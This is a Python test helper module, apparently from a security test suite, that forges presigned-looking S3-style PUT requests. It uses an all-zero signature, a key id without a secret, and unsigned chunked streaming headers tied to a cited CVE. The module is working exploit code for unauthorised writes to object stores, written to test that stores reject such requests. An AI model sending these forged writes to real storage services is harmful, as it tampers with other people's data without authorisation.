"""Unsigned writes: what an attacker can send to a store with a key id and no secret."""

import base64
import zlib
from collections.abc import Mapping
from datetime import UTC, datetime
from urllib.parse import quote, urlencode

import urllib3

from tests.builders import StoreResponse

Params = Mapping[str, str] | None
UNSIGNED = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"


def forged_url(
    endpoint: str, bucket: str, object_key: str, key_id: str, params: Mapping[str, str] | None = None
) -> str:
    """Return a URL that looks presigned, with a signature of zeros."""
    now = datetime.now(UTC)
    query = {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": f"{key_id}/{now:%Y%m%d}/us-east-1/s3/aws4_request",
        "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}",
        "X-Amz-Expires": "60",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0" * 64,
        **(params or {}),
    }
    return f"{endpoint}/{bucket}/{quote(object_key)}?{urlencode(query)}"


def streaming(body: bytes) -> dict[str, str]:
    """Return the headers that announce an unsigned body in chunks with a trailing checksum (CVE-2026-41145)."""
    return {
        "content-type": "audio/mpeg",
        "content-encoding": "aws-chunked",
        "x-amz-content-sha256": UNSIGNED,
        "x-amz-decoded-content-length": str(len(body)),
        "x-amz-trailer": "x-amz-checksum-crc32",
    }


def chunked(body: bytes) -> bytes:
    """Return the body in the form that these headers announce."""
    digest = base64.b64encode(zlib.crc32(body).to_bytes(4, "big"))
    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(body), body, digest)


def forge(
    endpoint: str,
    bucket: str,
    object_key: str,
    key_id: str,
    body: bytes,
    params: Params = None,
    headers: Mapping[str, str] | None = None,
) -> StoreResponse:
    """Return the answer to a write with the key id only; `headers` are sent in addition to the streaming headers."""
    url = forged_url(endpoint, bucket, object_key, key_id, params)
    sent = {**streaming(body), **(headers or {})}
    response = urllib3.request("PUT", url, body=chunked(body), headers=sent, retries=False, redirect=False, timeout=10)
    return StoreResponse(
        response.status, response.data, {name.lower(): value for name, value in response.headers.items()}
    )
